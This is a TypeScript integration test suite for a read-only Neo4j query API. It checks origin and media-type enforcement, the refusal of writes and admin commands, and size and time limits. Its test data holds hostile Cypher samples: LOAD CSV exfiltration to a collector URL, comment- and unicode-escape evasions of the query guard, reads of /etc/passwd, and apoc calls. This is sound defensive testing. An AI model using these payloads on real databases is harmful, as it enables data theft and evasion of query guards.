// The read-only API sealed, against the real Neo4j on loopback: exact JSON media types and the same-origin
// check on every request, every disguise of LOAD CSV, writes, commands and plugin calls refused with the
// graph unchanged and a loopback collector never contacted, Neo4j's own settings refusing file and URL
// loads even to a direct session, and answers bounded in rows, bytes, list and string sizes; a row too big
// to decode stops only the console's query worker, and the API answers the next request.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Driver } from 'neo4j-driver';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacks, needs } from '../shared-data.ts';
import { testDriver, testTarget } from './helpers/db.ts';
import { startServer, type RunningServer } from '../../web/server/index.ts';
import type { QueryResponse } from '../../web/server/api-types.ts';
import { checkQueryText } from '../../web/server/query-guard.ts';
import { seedGraph } from '../browser/harness.ts';

let driver: Driver;
let server: RunningServer;
let collector: http.Server;
let sink = '';
const collected: string[] = [];
const database = () => testTarget().database;

type Answer = QueryResponse & { error?: { code: string; message: string } };

async function query(cypher: string, headers: Record<string, string> = {}, base = server.url): Promise<{ status: number; body: Answer }> {
  const res = await fetch(new URL('/api/query', base), {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', ...headers },
    body: JSON.stringify({ cypher, params: {} }),
  });
  return { status: res.status, body: (await res.json()) as Answer };
}

async function fingerprint(): Promise<string> {
  const { records } = await driver.executeQuery(
    'MATCH (n) WITH count(n) AS nodes, collect(DISTINCT labels(n)) AS labels MATCH ()-[r]->() RETURN nodes, labels, count(r) AS rels',
    {},
    { database: database() },
  );
  return JSON.stringify(records[0].toObject());
}

beforeAll(async () => {
  driver = testDriver();
  await seedGraph(driver, database());
  // With its target the server runs console queries in the capped-heap worker, as `atlas serve` does.
  server = await startServer({ driver, database: database(), target: testTarget(), port: 0 });
  collector = http.createServer((req, res) => {
    collected.push(req.url ?? '');
    res.end('a,b\n');
  });
  await new Promise<void>((r) => collector.listen(0, '127.0.0.1', () => r()));
  sink = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/`;
}, 600_000);

afterAll(async () => {
  await server?.close();
  await new Promise((r) => collector?.close(r));
  await driver?.close();
});

describe.skipIf(lacks('seeds'))(needs('seeds', 'requests'), () => {
  it.each(['text/plain; x=application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/json; x=1', 'multipart/form-data; boundary=x'])(
    'refuses Content-Type %s with 415',
    async (type) => {
      const res = await query('RETURN 1', { 'Content-Type': type });
      expect(res.status).toBe(415);
      expect(res.body.error?.code).toBe('UNSUPPORTED_MEDIA_TYPE');
    },
  );

  it.each([
    [{ Origin: 'http://evil.example' }, 403],
    [{ Origin: 'null' }, 403],
    [{ Origin: 'http://127.0.0.1:1' }, 403],
    [{ 'Sec-Fetch-Site': 'cross-site' }, 403],
    [{ 'Sec-Fetch-Site': 'same-site' }, 403],
    [{ 'Sec-Fetch-Site': 'same-origin' }, 200],
    [{ 'Sec-Fetch-Site': 'none' }, 200],
  ])('with %o answers %i', async (headers, status) => {
    const res = await query('RETURN 1 AS one', headers);
    expect(res.status).toBe(status);
    if (status === 403) expect(res.body.error).toEqual({ code: 'FORBIDDEN', message: expect.stringMatching(/^Cross-origin requests are refused/), retriable: false });
  });

  it('answers a request from its own origin', async () => {
    const res = await query('RETURN 1 AS one', { Origin: server.url.slice(0, -1), 'Sec-Fetch-Site': 'same-origin' });
    expect(res.status).toBe(200);
    expect(res.body.rows).toEqual([[1]]);
  });
});

describe.skipIf(lacks('seeds'))(needs('seeds', 'queries that are not reads'), () => {
  const csv = (url: string) => `LOAD CSV FROM '${url}' AS l RETURN l`;
  it.each([
    () => `MATCH (d:Document) WITH d LIMIT 2 WITH '//' AS x, d LOAD CSV FROM '${sink}?' + d.source + x AS l RETURN l`,
    () => `MATCH (d:Document) WITH d, '/*' AS a LOAD CSV FROM '${sink}?' + d.id AS l RETURN l // */`,
    () => `load csv from '${sink}' as l return l`,
    () => `CALL { ${csv(sink)} } RETURN l`,
    () => `UNWIND [1] AS i CALL (i) { LOAD CSV FROM '${sink}' + i AS l RETURN l } RETURN l`,
    () => `MATCH (n) WHERE EXISTS { ${csv(sink)} } RETURN n`,
    () => csv('file:///etc/passwd'),
    () => `CALL apoc.load.json('${sink}')`,
    () => `RETURN apoc.cypher.runFirstColumnSingle('${csv(sink).replace(/'/g, '"')}', {})`,
    () => 'SHOW TRANSACTIONS',
    () => "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    () => 'SHOW SETTINGS',
    () => 'SHOW USERS',
    () => 'SHOW PROCEDURES',
    () => 'USE system SHOW DATABASES',
    () => "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    () => "CALL db.createLabel('Evil')",
    () => 'CREATE (n:Evil) RETURN n',
    () => 'MATCH (n:Entity) SET n.hacked = true RETURN n LIMIT 1',
    () => 'UNWIND range(1, 3) AS x CALL (x) { MATCH (n) RETURN n } IN TRANSACTIONS OF 1 ROW RETURN n',
    () => 'CREATE INDEX evil IF NOT EXISTS FOR (n:Entity) ON (n.hacked)',
    () => 'EXPLAIN MATCH (n) RETURN n',
  ])('refuses %s, changes nothing and fetches nothing', async (make) => {
    const before = await fingerprint();
    const res = await query(make());
    expect(res.status).toBe(403);
    expect(res.body.error?.code).toBe('QUERY_REFUSED');
    expect(await fingerprint()).toBe(before);
    expect(collected).toEqual([]);
  });

  it('refuses LOAD CSV hidden from the grammar by a unicode escape that Neo4j reads as a quote (the plan check)', async () => {
    const cypher = `WITH 'a\\u0027 AS x LOAD CSV FROM "${sink}" AS l RETURN l //' AS y RETURN y`;
    expect(await checkQueryText(cypher)).toBe('ok'); // to the grammar, one string
    const res = await query(cypher);
    expect(res.status).toBe(403);
    expect(res.body.error?.message).toMatch(/^LOAD CSV is not allowed/);
    expect(collected).toEqual([]);
  });

  it('runs the allowed procedures', async () => {
    const res = await query('CALL db.labels() YIELD label RETURN label ORDER BY label');
    expect(res.status).toBe(200);
    expect(res.body.rows.map((r) => r[0])).toContain('Entity');
  });
});

describe.skipIf(lacks('seeds'))(needs('seeds', "Neo4j's own settings close the same doors"), () => {
  const direct = async (cypher: string) => {
    const session = driver.session({ database: database() });
    try {
      await session.run(cypher);
      return 'ran';
    } catch (e) {
      return (e as { code?: string }).code ?? String(e);
    } finally {
      await session.close();
    }
  };
  it('refuses LOAD CSV from file URLs and from any URL, even to a full-access session', async () => {
    expect(await direct("LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l")).toMatch(/^Neo\.ClientError\./);
    expect(await direct(`LOAD CSV FROM '${sink}' AS l RETURN l`)).toMatch(/^Neo\.ClientError\./);
    expect(await direct(`MATCH (d:Document) WITH d LIMIT 1 LOAD CSV FROM '${sink}?' + d.source AS l RETURN l`)).toMatch(/^Neo\.ClientError\./);
    expect(collected).toEqual([]);
  });

  // (The address block list is an internal setting SHOW SETTINGS does not list; the LOAD CSV above proves it.)
  it('runs with file URLs off, plugins limited to the allow-list and transactions capped in memory', async () => {
    const { records } = await driver.executeQuery(
      "SHOW SETTINGS YIELD name, value WHERE name IN $names RETURN name, value ORDER BY name",
      { names: ['dbms.security.allow_csv_import_from_file_urls', 'dbms.security.procedures.allowlist', 'db.memory.transaction.max'] },
      { database: database() },
    );
    const got = Object.fromEntries(records.map((r) => [r.get('name'), r.get('value')]));
    expect(got['dbms.security.allow_csv_import_from_file_urls']).toBe('false');
    expect(got['dbms.security.procedures.allowlist']).toBe(
      'db.awaitIndex,db.awaitIndexes,db.labels,db.relationshipTypes,db.propertyKeys,db.schema.*,db.index.fulltext.*,db.index.vector.*,db.ping,dbms.components',
    );
    expect(Number.parseInt(String(got['db.memory.transaction.max']), 10)).toBeGreaterThan(0);
  });

  it('stops a transaction that collects more memory than its limit, and the console says so', async () => {
    const before = await direct('RETURN 1');
    expect(before).toBe('ran');
    // Lists of eight: the limit is reached after a few million rows. A generous time limit, so that a loaded
    // machine's slowness cannot turn this into a time-out.
    const patient = await startServer({ driver, database: database(), target: testTarget(), port: 0, queryTimeoutMs: 100_000 });
    const res = await query('UNWIND range(1, 50000000) AS x RETURN size(collect([x, x, x, x, x, x, x, x])) AS n', {}, patient.url).finally(() => patient.close());
    expect(res.status).toBe(413);
    expect(res.body.error).toEqual({
      code: 'QUERY_TOO_LARGE',
      message:
        'The query needed more memory than Neo4j allows one transaction, so Neo4j stopped it. Aggregate less at once ' +
        '(collect fewer values, add a LIMIT before collect) or return counts instead of lists.',
      retriable: false,
    });
    expect((await query('RETURN 1 AS one')).body.rows).toEqual([[1]]);
  }, 120_000);
});

describe.skipIf(lacks('seeds'))(needs('seeds', 'a row that outlives the time limit'), () => {
  it('answers QUERY_TIMEOUT soon after the limit, though Neo4j only checks it between rows', async () => {
    const quick = await startServer({ driver, database: database(), target: testTarget(), port: 0, queryTimeoutMs: 1000 });
    try {
      // The query worker and its grammar load first, which on a loaded machine can outlast a 1 s limit; what
      // is timed below is the query alone.
      for (let i = 0; i < 20 && (await query('RETURN 1 AS one', {}, quick.url)).status !== 200; i++);
      // One row, one expression: a string of a million characters, within the console's bound on what an
      // expression builds, but copied at every step: about 50 GB of copying inside Neo4j, which never looks
      // at its limit meanwhile.
      const t0 = performance.now();
      const res = await query("RETURN size(reduce(s = '', x IN range(1, 100000) | s + 'xxxxxxxxxx')) AS n", {}, quick.url);
      const waited = performance.now() - t0;
      expect(res.status).toBe(408);
      expect(res.body.error).toEqual({
        code: 'QUERY_TIMEOUT',
        message: "The query was stopped after 1 s: it took longer than the server's time limit. Add a LIMIT or narrow the MATCH.",
        retriable: true,
      });
      // The limit plus the 2 s grace, with room for a loaded machine; Neo4j itself would take minutes.
      expect(waited).toBeLessThan(10_000);
      expect((await query('RETURN 1 AS one', {}, quick.url)).body.rows).toEqual([[1]]);
    } finally {
      await quick.close();
    }
  }, 60_000);
});

describe.skipIf(lacks('seeds'))(needs('seeds', 'one row too big to decode'), () => {
  const TOO_LARGE = {
    code: 'QUERY_TOO_LARGE',
    message:
      'The answer was too large to read: its values took more than the 64 MB of memory a console query may use, so it was stopped. ' +
      'Return smaller values: a slice of a long list (xs[..100]), its size (size(xs)), or a LIMIT.',
    retriable: false,
  };
  let small: Awaited<ReturnType<typeof startServer>>;
  beforeAll(async () => {
    // A generous time limit: decoding 100 MB on a loaded machine must not turn into a time-out.
    small = await startServer({ driver, database: database(), target: testTarget(), port: 0, queryHeapMb: 64, queryTimeoutMs: 120_000 });
  });
  afterAll(async () => small?.close());

  it.each([
    // A row the console's bound lets through, since it grows with the data more than with the query: each
    // seed document's text once per passage and document (about 16 MB), which Neo4j holds once, sent 10
    // times (the most the bound allows): over 100 MB of strings in one row.
    'MATCH (d:Document), (p:Passage), (e:Document) WITH collect(d.text) AS texts RETURN [i IN range(1, 10) | texts] AS xs',
  ])('%s stops the query worker only: a clear 413, and the next request is answered', async (cypher) => {
    const res = await query(cypher, {}, small.url);
    expect(res.status).toBe(413);
    expect(res.body.error).toEqual(TOO_LARGE);
    const next = await query('RETURN 1 AS one', {}, small.url);
    expect(next.status).toBe(200);
    expect(next.body.rows).toEqual([[1]]);
    const other = await fetch(new URL('/api/health', small.url));
    expect(other.status).toBe(200);
  }, 180_000);
});

describe.skipIf(lacks('seeds'))(needs('seeds', 'bounded answers'), () => {
  it('answers 1000 rows of 100,000-item lists cleanly, truncated, with the server memory bounded', async () => {
    global.gc?.();
    const rss = process.memoryUsage().rss;
    const res = await query('UNWIND range(1, 1000) AS i RETURN [x IN range(1, 100000) | x] AS xs');
    const grew = process.memoryUsage().rss - rss;
    expect(res.status).toBe(200);
    expect(res.body.truncated).toBe(true);
    // 100,000 items a row: the read budget of 1,000,000 items is passed at the 11th row.
    expect(res.body.rows.length).toBe(11);
    for (const [xs] of res.body.rows) expect(xs).toEqual(Array.from({ length: 1000 }, (_, k) => k + 1));
    expect(res.body.notice).toBe('stopped after 11 rows: the rows were too large to read further; 11 lists cut to their first 1,000 items');
    expect(grew).toBeLessThan(400 * 1024 * 1024);
  }, 300_000);

  it('stops at the byte budget and says so', async () => {
    const small = await startServer({ driver, database: database(), port: 0, byteBudget: 100_000 });
    try {
      // Rows of 4,900 characters (under the 5,000-character cap): the 21st passes 100,000 bytes.
      const res = await query("UNWIND range(1, 1000) AS i RETURN i, reduce(s = '', x IN range(1, 490) | s + 'abcdefghij') AS text", {}, small.url);
      expect(res.status).toBe(200);
      expect(res.body.rows.length).toBe(21);
      expect(res.body.truncated).toBe(true);
      expect(res.body.notice).toBe('stopped after 21 rows at the 98 KB answer budget');
      expect(res.body.limits).toEqual({ byteBudget: 100_000, maxList: 1000, maxString: 5000 });
    } finally {
      await small.close();
    }
  });

  it('cuts long strings and deep nesting while serialising', async () => {
    const res = await query("RETURN reduce(s = '', x IN range(1, 700) | s + 'abcdefghij') AS long, reduce(l = [], x IN range(1, 100) | [l]) AS deep");
    expect(res.status).toBe(200);
    const [long, deep] = res.body.rows[0] as [string, unknown];
    expect(long.length).toBe(5001);
    expect(long.endsWith('…')).toBe(true);
    let d = 0;
    for (let v: unknown = deep; Array.isArray(v); v = v[0]) d++;
    expect(d).toBe(32);
    expect(res.body.notice).toBe('1 strings cut to 5,000 characters; values nested deeper than 32 levels left out');
  });
});
